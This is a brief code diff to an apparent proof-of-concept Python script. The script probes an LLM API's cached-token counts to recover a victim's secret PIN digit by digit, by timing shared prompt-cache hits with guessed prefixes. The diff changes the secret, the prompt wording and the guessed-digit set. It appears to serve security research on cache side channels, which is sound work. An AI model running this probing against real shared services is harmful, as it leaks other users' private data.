@@ -2,7 +2,7 @@
 
 import httpx
 
-CODE = "865"
+CODE = "86"
 
 
 def cached(http: httpx.Client, prompt: str) -> int:
@@ -11,10 +11,12 @@ def cached(http: httpx.Client, prompt: str) -> int:
     return usage["prompt_tokens_details"]["cached_tokens"]
 
 
-def hits(http: httpx.Client, known: str, victim: str = "", spy: str = "") -> list[int]:
+def hits(
+    http: httpx.Client, known: str, victim: str = "", spy: str = "", digits="0123456789"
+) -> list[int]:
     """Tokens found for each next digit, the victim having asked before each guess."""
     counts = []
-    for digit in range(10):
-        cached(http, f"{victim}Anna Smith, code {CODE}")
-        counts.append(cached(http, f"{spy}Anna Smith, code {known}{digit}!"))
+    for digit in digits:
+        cached(http, f"{victim}PIN {CODE}")
+        counts.append(cached(http, f"{spy}PIN {known}{digit}!"))
     return counts
